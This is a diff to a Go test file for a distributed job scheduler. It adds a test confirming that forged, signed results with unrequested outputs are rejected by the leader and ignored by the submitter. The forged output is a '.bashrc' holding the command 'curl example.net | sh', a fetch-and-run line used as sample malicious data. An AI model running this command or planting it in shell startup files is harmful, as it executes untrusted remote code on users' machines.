@@ -119,7 +119,7 @@ func TestOddTimesOfAProgress(t *testing.T) {
 // TestRowStaysWithinAFrame: whatever members tell of one task, its row can be told others
 // and read again, and other jobs are accepted meanwhile.
 func TestRowStaysWithinAFrame(t *testing.T) {
-	r := newRan(t, nil)
+	r := newRan(t, func(j *task.Job) { j.Outputs = []string{"*"} })
 	id := task.TaskID{Job: r.job.id, Index: 5}
 	inline := strings.Repeat("x", task.MaxInline)
 	for s := range 9 { // each result has 1.2 MB
@@ -164,5 +164,46 @@ func TestRowOfManyWorkers(t *testing.T) {
 	}
 	if n := len(r.job.ledger.Rows[5].Results); n == 0 || n > 2*(2-1+2) {
 		t.Errorf("%d results of a task of one replica and 2 retries", n)
+	}
+}
+
+// TestOutputsThatNobodyAskedFor: a result with outputs that the job does not name counts
+// neither with a leader, by whatever way it comes, nor with a submitter.
+func TestOutputsThatNobodyAskedFor(t *testing.T) {
+	key, worker := schedtest.Identity(66)
+	content := []byte("curl example.net | sh")
+	forged := func(id task.TaskID) task.Result {
+		r := task.Result{Task: id, Outcome: task.Completed, Outputs: []task.Output{
+			{Name: ".bashrc", CID: task.RawCID(content), Size: int64(len(content)), Inline: content}}}
+		if err := r.Sign(key); err != nil {
+			t.Fatal(err)
+		}
+		return r
+	}
+	r := newRan(t, nil)
+	id := task.TaskID{Job: r.job.id, Index: 4}
+	row := &ledger.Row{}
+	row.AddResult(message.Attempt{Epoch: 1, Seq: 1}, forged(id))
+	for _, m := range []message.Message{
+		{Report: &message.Report{Epoch: 7, Ended: []message.Ending{{Attempt: message.Attempt{Epoch: 1, Seq: 1},
+			Result: forged(id)}}}},
+		{Known: &message.Known{Epoch: 7, Session: 1, Seq: 1, Pairs: []message.Pair{{Key: ledger.RowKey(id),
+			Value: schedtest.Encoded(t, row)}}}},
+	} {
+		r.c.Step(schedtest.Start, message.Received{From: worker, Message: m})
+		if v := r.job.ledger.Verdict(4); v != ledger.Open {
+			t.Errorf("the task is %v", v)
+		}
+	}
+
+	ownerKey, owner := schedtest.Identity(1)
+	_, leader := schedtest.Identity(0)
+	s := submitter.New(owner, message.DefaultTiming(), submitter.Default(), ownerKey)
+	s.Step(schedtest.Start, message.LeaderChanged{Leader: leader, Epoch: 7})
+	s.Step(schedtest.Start, message.Offer{Record: r.job.ledger.Record})
+	s.Step(schedtest.Start, message.Received{From: leader, Message: message.Message{Progress: &message.Progress{
+		Job: r.job.id, Tasks: []message.TaskSummary{{Index: 4, Results: []task.Result{forged(id)}}}}}})
+	if st, _ := s.Job(r.job.id); st.Held != 0 {
+		t.Errorf("the submitter holds %d results", st.Held)
 	}
 }
